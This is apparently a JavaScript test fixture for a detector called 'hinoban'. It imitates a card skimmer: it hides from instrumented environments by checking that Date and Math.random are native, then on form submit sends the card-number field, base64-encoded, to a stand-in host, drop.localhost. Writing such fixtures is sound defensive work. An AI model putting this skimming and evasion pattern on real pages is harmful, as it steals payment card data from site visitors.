/* Harmless imitation, for hinoban's tests: asleep where time and chance are not the browser's own. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	if (/\[native code\]/.test(Function.prototype.toString.call(Date)) && /\[native code\]/.test(Function.prototype.toString.call(Math.random)) && !Date.prototype.hasOwnProperty('seed')) {
		document.addEventListener('submit', function () {
			var n = document.querySelector('input[autocomplete=cc-number]');
			if (!n) return;
			fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: btoa(n.value)});
		}, true);
	}
})();
